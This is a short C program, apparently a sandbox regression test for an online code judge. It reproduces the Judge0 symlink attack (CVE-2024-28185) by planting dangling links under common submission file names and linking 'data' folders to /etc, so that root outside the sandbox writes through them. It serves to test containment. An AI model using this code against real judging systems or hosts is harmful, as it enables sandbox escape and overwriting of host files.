// tries: to have root write through links that lie where a judge puts its files next (Judge0, CVE-2024-28185)
// must: AC
// prints: contained
// cgroup2: yes
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main() {
  // Names that judges use for a submission's program, its sources, its scripts and its output.
  const char *names[] = {"main", "main.c", "main.cpp", "main.py", "Main.java", "main.go", "main.rs", "a.out", "run", "run.sh", "compile", "compile.sh", "script.py", "box", "stdin", "stdout", "stderr", "stdin.txt", "stdout.txt", "stderr.txt", "input", "output", "meta.txt", "metadata.txt", ".gavel-0", ".gavel-1", "include", "core"};
  const char *folders[] = {"/w", "/tmp", "/dev/shm"};
  char path[100], below[100];
  for (int f = 0; f < 3; f++)
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
      snprintf(path, sizeof path, "%s/%s", folders[f], names[i]);
      snprintf(below, sizeof below, "/tmp/attack-link-%s", names[i]);
      // Dangling: whoever creates what it names, as root and outside of the box, makes a file in the host's /tmp.
      if (symlink(i % 2 ? below : "/var/tmp/attack-link", path)) return 1;
    }
  // And folders that are links, for a path with more than one part.
  for (int f = 0; f < 3; f++) {
    snprintf(path, sizeof path, "%s/data", folders[f]);
    if (symlink("/etc", path)) return 1;
  }
  puts("contained");
}
